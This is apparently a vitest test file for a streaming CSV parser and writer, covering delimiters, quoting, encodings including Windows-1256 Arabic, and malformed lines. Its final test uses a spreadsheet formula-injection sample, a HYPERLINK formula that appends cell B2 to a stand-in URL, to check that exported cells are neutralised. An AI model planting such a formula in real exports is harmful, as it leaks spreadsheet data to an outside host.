import { describe, expect, test } from "vitest";
import { type CsvLine, cellFrom, csvLine, csvLines } from "./csv";

/** A file in pieces of so many bytes. */
async function* pieces(bytes: Uint8Array, size: number) {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

async function read(file: string | Uint8Array, size = 7): Promise<CsvLine[]> {
  const lines: CsvLine[] = [];
  for await (const line of csvLines(pieces(typeof file === "string" ? Buffer.from(file) : file, size)))
    lines.push(line);
  return lines;
}
const cells = async (file: string | Uint8Array, size?: number) =>
  (await read(file, size)).map((line) => line.cells);

describe("a file of two columns", () => {
  test.each([
    ["commas", "/a,/b\n/c,/d\n"],
    ["semicolons", "/a;/b\n/c;/d"],
    ["tabs", "/a\t/b\r\n/c\t/d\r\n"],
    ["quotes", '"/a" , "/b"\n"/c","/d"'],
    ["a mark of its encoding", "\ufeff/a,/b\n/c,/d"],
  ])("parted by %s", async (_, file) => {
    expect(await cells(file)).toEqual([
      ["/a", "/b"],
      ["/c", "/d"],
    ]);
  });

  test("may be cut anywhere on its way", async () => {
    const file = '/مقال,"/ب,""ت"""\n\n/x,/y';
    for (let size = 1; size < 20; size += 1)
      expect(await cells(file, size)).toEqual([
        ["/مقال", '/ب,"ت"'],
        ["/x", "/y"],
      ]);
  });

  test("has its lines counted as an editor shows them", async () => {
    expect((await read("/a,/b\n\n  \n/c,/d\n\n")).map(({ line }) => line)).toEqual([1, 4]);
  });

  test("is read where a spreadsheet wrote Windows-1256", async () => {
    const file = Buffer.concat([Buffer.from("/a,/b\n/"), Buffer.from("e3c7c1", "hex"), Buffer.from(",/c\n")]);
    expect(await cells(file)).toEqual([
      ["/a", "/b"],
      ["/ماء", "/c"],
    ]);
  });

  test.each([
    ["a quote that nobody closes", '"/a,/b'],
    ["words behind a quote", '"/a"x,/b'],
    ["no end", "x".repeat(9_000)],
  ])("is not read where a line has %s; the next one is", async (_, line) => {
    for (const size of [7, 5_000, 20_000])
      expect(await cells(`${line}\n/c,/d`, size)).toEqual([null, ["/c", "/d"]]);
    expect((await cells(line, 5_000)).at(-1)).toBeNull();
  });

  test("may hold nothing at all", async () => {
    for (const nothing of ["", "\n", "\ufeff\n"]) expect(await cells(nothing)).toEqual([]);
    expect(await cells(",")).toEqual([["", ""]]);
  });
});

test("what anybody wrote is no formula in a spreadsheet, and comes back as it was", () => {
  const cells = ['=HYPERLINK("http://x/?"&B2,"هنا")', "+964", "@name", "-5", "كلمة = أخرى"];
  const line = csvLine(cells);
  expect(line).toBe(`"'=HYPERLINK(""http://x/?""&B2,""هنا"")",'+964,'@name,'-5,كلمة = أخرى\r\n`);
  expect(["'=x", "'+964", "'ساعة", "كلمة"].map(cellFrom)).toEqual(["=x", "+964", "'ساعة", "كلمة"]);
});
